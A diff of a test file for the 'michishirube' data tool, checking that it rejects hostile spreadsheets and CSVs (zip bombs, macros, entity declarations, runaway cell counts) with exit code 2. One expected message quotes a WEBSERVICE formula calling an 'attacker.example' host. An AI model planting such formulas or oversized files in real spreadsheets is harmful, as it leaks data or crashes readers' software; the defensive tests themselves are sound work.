@@ -42,8 +42,8 @@ describe('michishirube import refuses hostile files with exit code 2 and one lin
     ['lying.xlsx', () => hostile.lyingZip(1024), /Refused: the workbook expands beyond the limit \(xl\/worksheets\/sheet1\.xml inflates beyond its declared 1000 bytes\)/],
     ['cells.xlsx', () => hostile.manyCellsWorkbook(1_200_000), /too many cells \(at most 1,000,000\)/],
     ['macro.xlsx', () => hostile.macroWorkbook(), /A workbook with macros \(xl\/vbaProject\.bin\) is not imported/],
-    ['webservice.xlsx', () => hostile.webserviceWorkbook(), /reaches outside itself \(the formula =_xlfn\.WEBSERVICE\("http:\/\/attacker\.example/],
-    ['link.xlsx', () => hostile.externalLinkWorkbook(), /reaches outside itself \(a link to another workbook \(xl\/externalLinks\/externalLink1\.xml\)\)/],
+    ['webservice.xlsx', () => hostile.webserviceWorkbook(), /reaches outside itself is not imported \(the formula =_xlfn\.WEBSERVICE\("http:\/\/attacker\.example/],
+    ['link.xlsx', () => hostile.externalLinkWorkbook(), /reaches outside itself is not imported \(a link to another workbook \(xl\/externalLinks\/externalLink1\.xml\)\)/],
     ['entities.xlsx', () => hostile.entityWorkbook(), /DOCTYPE declaration, which Excel never writes \(xl\/worksheets\/sheet1\.xml\)/],
     ['deep.xlsx', () => hostile.deepXmlWorkbook(100_000), /nested too deep \(xl\/worksheets\/sheet1\.xml; at most 64 levels\)/],
     ['strings.xlsx', () => hostile.manySharedStringsWorkbook(3_000_000), /too many strings \(at most 500,000\)/],
@@ -61,6 +61,15 @@ describe('michishirube import refuses hostile files with exit code 2 and one lin
       expect(r.out).toBe('');
     }, 180_000);
   }
+
+  it('michishirube check refuses a CSV with a million columns the same way', async () => {
+    const path = join(dir, 'wide-check.csv');
+    await writeFile(path, `kpi_id,name\nx${',1'.repeat(1_000_000)}\n`);
+    const err: string[] = [];
+    const code = await main(['check', path], () => {}, (s) => err.push(s));
+    expect(code).toBe(2);
+    expect(err).toEqual([expect.stringMatching(/wide-check\.csv: .*2.*the row has 1,000,001 cells; at most 1,024 are read$/)]);
+  });
 
   it('the issue\'s 2.4 MB workbook with 287 MB of shared strings: a real process exits 2 with one line (it died with exit 133)', async () => {
     // The database exists by now (the cases above created and seeded it): nothing else is printed.
